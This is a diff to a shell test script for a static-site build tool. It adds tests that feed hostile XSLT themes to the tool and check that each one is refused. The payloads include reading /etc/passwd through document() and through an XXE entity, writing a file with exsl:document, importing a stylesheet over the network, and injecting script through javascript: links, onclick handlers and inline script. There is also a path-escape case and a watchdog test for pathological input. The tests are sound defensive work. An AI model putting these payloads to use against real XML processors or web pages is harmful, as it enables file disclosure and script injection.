@@ -106,6 +106,41 @@ expect doctype 1 \
 "content/book.xml:2: error: a document type declaration (<!DOCTYPE>) is not allowed" \
 'sed -i "1a <!DOCTYPE book [<!ENTITY x SYSTEM \"/etc/passwd\">]>" content/book.xml'
 
+# Hostile themes: each is refused, reveals nothing, writes nothing.
+expect_theme() { # NAME WANT_IN_STDERR STYLESHEET
+	rm -rf "$work/badtheme" && mkdir -p "$work/badtheme"
+	printf '%s\n' "$3" > "$work/badtheme/handbook.xsl"
+	(cd "$work/good" && "$handbook" build --theme "$work/badtheme" --output "$work/dist" \
+	    >"$work/out" 2>"$work/err")
+	rc=$?
+	if [ "$rc" != 1 ]; then echo "FAIL theme-$1: status $rc, want 1"; cat "$work/err"; failed=$((failed + 1))
+	elif ! grep -q -- "$2" "$work/err"; then echo "FAIL theme-$1: no '$2'"; cat "$work/err"; failed=$((failed + 1))
+	elif grep -rq 'root:x:0' "$work/err" "$work/out" "$work/dist"; then echo "FAIL theme-$1: secret leaked"; failed=$((failed + 1))
+	elif [ -e /tmp/handbook-pwned ]; then echo "FAIL theme-$1: a file was written"; rm -f /tmp/handbook-pwned; failed=$((failed + 1))
+	elif [ "$(tree_hash "$work/dist")" != "$good_hash" ]; then echo "FAIL theme-$1: output changed"; failed=$((failed + 1))
+	else passed=$((passed + 1)); fi
+}
+head='<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:hb="urn:x-handbook:1" xmlns:exsl="http://exslt.org/common" extension-element-prefixes="exsl">'
+expect_theme read-passwd "refused to read '/etc/passwd'" "$(echo "$head"'<xsl:template match="/"><hb:files><hb:file path="x.html"><p><xsl:value-of select="document('"'"'/etc/passwd'"'"')"/></p></hb:file></hb:files></xsl:template></xsl:stylesheet>')"
+expect_theme write-file "theme:" "$(echo "$head"'<xsl:template match="/"><exsl:document href="/tmp/handbook-pwned" method="text">x</exsl:document><hb:files/></xsl:template></xsl:stylesheet>')"
+expect_theme xxe "document type declaration" "$(echo '<!DOCTYPE x [<!ENTITY pw SYSTEM "/etc/passwd">]>'"$head"'<xsl:template match="/"><hb:files><hb:file path="x.html"><p>&pw;</p></hb:file></hb:files></xsl:template></xsl:stylesheet>')"
+expect_theme network-import "Network file read for http://example.org/evil.xsl refused" "$(echo "$head"'<xsl:import href="http://example.org/evil.xsl"/><xsl:template match="/"><hb:files/></xsl:template></xsl:stylesheet>')"
+expect_theme recursion "theme:" "$(echo "$head"'<xsl:template match="/"><xsl:call-template name="r"/></xsl:template><xsl:template name="r"><xsl:call-template name="r"/></xsl:template></xsl:stylesheet>')"
+expect_theme javascript-href "has a href address in 'JavaScript:alert(1)'" "$(echo "$head"'<xsl:template match="/"><hb:files><hb:file path="x.html"><a href="JavaScript:alert(1)">x</a></hb:file></hb:files></xsl:template></xsl:stylesheet>')"
+expect_theme event-handler "event handler 'onclick'" "$(echo "$head"'<xsl:template match="/"><hb:files><hb:file path="x.html"><p onclick="alert(1)">x</p></hb:file></hb:files></xsl:template></xsl:stylesheet>')"
+expect_theme inline-script "not a file of the theme" "$(echo "$head"'<xsl:template match="/"><hb:files><hb:file path="x.html"><script>alert(1)</script></hb:file></hb:files></xsl:template></xsl:stylesheet>')"
+expect_theme path-escape "unsafe output path" "$(echo "$head"'<xsl:template match="/"><hb:files><hb:file path="../escape.html"><p/></hb:file></hb:files></xsl:template></xsl:stylesheet>')"
+
+# A pathological chapter is stopped by the watchdog, not left to run.
+rm -rf "$work/case" && cp -r "$here/fixture" "$work/case"
+python3 -c "import sys; sys.stdout.write('# Deep\n\n' + '- ' * 30000 + '\n' * 30000)" > "$work/case/content/three.md"
+(cd "$work/case" && timeout 60 "$handbook" build --theme "$theme" --output "$work/dist" >/dev/null 2>"$work/err")
+rc=$?
+if [ "$rc" = 1 ] && grep -q 'three.md: error: took longer than' "$work/err" &&
+    [ "$(tree_hash "$work/dist")" = "$good_hash" ]; then passed=$((passed + 1))
+elif [ "$rc" = 0 ] && [ "$(tree_hash "$work/dist")" != "" ]; then passed=$((passed + 1)) # fast enough: fine
+else echo "FAIL pathological-chapter: status $rc"; cat "$work/err"; failed=$((failed + 1)); fi
+
 # Accepted, not errors: a byte-order mark and CRLF line ends.
 expect_same() {
 	name=$1 mutation=$2
